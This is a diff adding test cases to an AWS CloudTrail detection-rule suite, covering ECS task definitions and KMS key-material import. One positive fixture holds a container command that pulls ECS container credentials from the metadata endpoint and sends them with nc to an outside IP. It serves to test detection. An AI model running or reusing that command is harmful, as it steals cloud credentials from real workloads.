@@ -52,6 +52,10 @@ describeFamily('execution', executionRules, {
     positive: [eventOf(ec2, 'RunInstances', { requestParameters: run('t3.micro', 25) }), eventOf(ec2, 'RunInstances', { requestParameters: run('c5.9xlarge', 4) })],
     negative: [eventOf(ec2, 'RunInstances', { requestParameters: run('c5.9xlarge', 1) }), eventOf(ec2, 'RunInstances', { ...autoScaling, requestParameters: run('t3.micro', 25) })],
   },
+  'TC-EXEC-012': {
+    positive: [eventOf('ecs.amazonaws.com', 'RegisterTaskDefinition', { requestParameters: { family: 'web', containerDefinitions: [{ name: 'c', image: 'alpine', command: ['/bin/sh', '-c', 'curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | nc 198.51.100.9 443'] }] } })],
+    negative: [eventOf('ecs.amazonaws.com', 'RegisterTaskDefinition', { requestParameters: { family: 'web', containerDefinitions: [{ name: 'c', image: 'nginx', command: ['nginx', '-g', 'daemon off;'] }] } })],
+  },
   'TC-EXEC-011': {
     positive: [eventOf('glue.amazonaws.com', 'CreateDevEndpoint', { requestParameters: { endpointName: 'e', roleArn: 'arn:aws:iam::111122223333:role/glue-admin' } })],
     negative: [eventOf('glue.amazonaws.com', 'GetDevEndpoints'), eventOf('glue.amazonaws.com', 'CreateJob', viaCloudFormation)],
@@ -90,6 +94,10 @@ describeFamily('destruction', destructionRules, {
   'TC-KMS-002': {
     positive: [eventOf('kms.amazonaws.com', 'PutKeyPolicy', { requestParameters: { keyId: 'k', policyName: 'default', policy: '{}' } })],
     negative: [eventOf('kms.amazonaws.com', 'GetKeyPolicy', { requestParameters: { keyId: 'k' } })],
+  },
+  'TC-KMS-003': {
+    positive: [eventOf('kms.amazonaws.com', 'ImportKeyMaterial', { requestParameters: { keyId: 'k', expirationModel: 'KEY_MATERIAL_EXPIRES', validTo: 'Dec 3, 2026' } })],
+    negative: [eventOf('kms.amazonaws.com', 'GetParametersForImport', { requestParameters: { keyId: 'k' } })],
   },
   'TC-DESTROY-007': {
     positive: [eventOf('sqs.amazonaws.com', 'PurgeQueue', { requestParameters: { queueUrl: 'https://sqs.us-east-1.amazonaws.com/111122223333/audit' } })],
